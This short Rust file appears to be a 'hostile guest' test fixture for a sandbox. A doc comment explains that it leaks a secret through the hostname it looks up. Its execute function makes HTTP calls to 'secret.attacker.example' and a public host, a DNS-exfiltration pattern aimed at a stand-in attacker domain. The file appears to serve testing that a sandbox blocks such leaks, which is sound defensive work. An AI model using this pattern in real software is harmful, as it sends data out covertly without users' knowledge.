//! Tells a secret by the name of a server, to who is asked for its address.

use hostile_guests::*;

struct Attack;

impl Bolt for Attack {
    fn execute(_: Vec<Batch>) -> Result<Outcome, String> {
        http::call_each(&["http://secret.attacker.example/", "https://public.example/"])
    }
}

hostile_guests::bolt!(Attack);
